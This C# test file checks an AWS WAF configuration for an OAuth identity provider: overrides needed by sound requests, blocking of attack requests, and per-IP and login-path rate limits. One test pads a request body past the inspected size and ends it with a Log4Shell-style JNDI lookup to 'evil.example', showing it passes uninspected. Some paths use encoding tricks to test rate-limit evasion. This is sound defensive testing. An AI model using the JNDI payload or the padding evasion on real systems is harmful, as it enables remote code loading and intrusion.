using Infra.Edge;
using Infra.Tests.Edge.Replay;

namespace Infra.Tests.Edge;

/// <summary>
/// Requests against the rules as the component registers them. The managed rules are a model of what AWS documents of them: these tests prove
/// that the overrides are exactly those that sound requests need, not that AWS's patterns are what they say.
/// </summary>
public sealed class WafReplayTests
{
    private const string Common = "AWSManagedRulesCommonRuleSet";

    private static IEnumerable<TestCaseData> Sound =>
        OAuthRequests.All.Select(row => new TestCaseData(row.Request, row.Counted).SetArgDisplayNames(row.Request.Name));

    private static IEnumerable<TestCaseData> Hostile =>
        Attacks.All.Select(row => new TestCaseData(row.Request, row.BlockedBy).SetArgDisplayNames(row.Request.Name));

    [TestCaseSource(nameof(Sound))]
    public async Task A_sound_request_passes_and_counts_where_it_says(object request, string[] counted)
    {
        var verdict = (await RegisterAsync()).Judge((WebRequest)request);

        using (Assert.EnterMultipleScope())
        {
            Assert.That(verdict.BlockedBy, Is.Null, verdict.ToString());
            Assert.That(verdict.Counted, Is.EquivalentTo(counted));
        }
    }

    [TestCaseSource(nameof(Hostile))]
    public async Task An_attack_is_blocked_by_the_rule_that_it_says(object request, string rule) =>
        Assert.That((await RegisterAsync()).Judge((WebRequest)request).BlockedBy, Is.EqualTo(rule));

    [Test]
    public async Task What_counts_in_the_plan_is_exactly_what_sound_requests_need()
    {
        var acl = await RegisterAsync();

        var needed = OAuthRequests.All.SelectMany(row => row.Counted).Distinct();
        using (Assert.EnterMultipleScope())
        {
            Assert.That(acl.CountedIn(Common), Is.EquivalentTo(needed));
            foreach (var group in ManagedRules.Groups.Keys.Where(group => group != Common))
                Assert.That(acl.CountedIn(group), Is.Empty, group);
        }
    }

    [Test]
    public async Task Without_any_one_of_the_overrides_a_sound_request_is_blocked_by_it()
    {
        using (Assert.EnterMultipleScope())
        {
            foreach (var rule in CommonRules.Counted)
            {
                var acl = await RegisterAsync(args => args with { CountedRules = args.CountedRules.Remove(rule) });
                Assert.That(OAuthRequests.All.Select(row => acl.Judge(row.Request).BlockedBy), Does.Contain(rule));
            }
        }
    }

    [Test]
    public async Task What_large_bodies_cost_is_that_nobody_looks_at_their_end()
    {
        var acl = await RegisterAsync();
        var body = $"{new string('a', WebRequest.InspectedBody)}&state=${{jndi:ldap://evil.example/a}}";

        var verdict = acl.Judge(new WebRequest("late attack", "POST", "/v1/anything") { Body = body });

        Assert.That(verdict.ToString(), Is.EqualTo("passes, counted: SizeRestrictions_BODY"), "only the metric tells");
    }

    [Test]
    public async Task Words_that_only_resemble_the_inner_workings_pass()
    {
        var acl = await RegisterAsync();

        Assert.That(Attacks.Innocent.Select(path => acl.Judge(new(path, "GET", path)).BlockedBy), Is.All.Null);
    }

    [Test]
    public async Task An_address_that_asks_three_thousand_times_is_turned_away_after_two_thousand()
    {
        var acl = await RegisterAsync();
        var request = new WebRequest("keys", "GET", "/67e7eae6-62b0-4500-9eff-87459f63fc66/v1/jwks");

        var verdicts = Enumerable.Range(0, 3000).Select(_ => acl.Judge(request).BlockedBy).ToList();

        using (Assert.EnterMultipleScope())
        {
            Assert.That(verdicts.Take(2000), Is.All.Null);
            Assert.That(verdicts.Skip(2000), Is.All.EqualTo("RateLimitPerIp"));
            Assert.That(acl.Judge(request with { Ip = "203.0.113.8" }).BlockedBy, Is.Null, "another address is not to blame");
        }
    }

    [TestCase("/tokens")]
    [TestCase("/%74okens")]
    [TestCase("/authorizations")]
    [TestCase("/./backchannel/authentications")]
    public async Task Where_passwords_can_be_guessed_two_hundred_are_enough(string path)
    {
        var acl = await RegisterAsync();
        var request = OAuthRequests.Token(path);

        var verdicts = Enumerable.Range(0, 210).Select(_ => acl.Judge(request).BlockedBy).ToList();

        using (Assert.EnterMultipleScope())
        {
            Assert.That(verdicts.Take(200), Is.All.Null);
            Assert.That(verdicts.Skip(200), Is.All.EqualTo("AuthRateLimitPerIp"));
        }
    }

    private static async Task<RegisteredAcl> RegisterAsync(Func<WebAclArgs, WebAclArgs>? change = null)
    {
        var args = WebAclTests.Args();
        var run = await Sandbox.RunAsync(() => _ = new WebAcl("idp", change?.Invoke(args) ?? args));
        return new(run.One("aws:wafv2/webAcl:WebAcl"));
    }
}
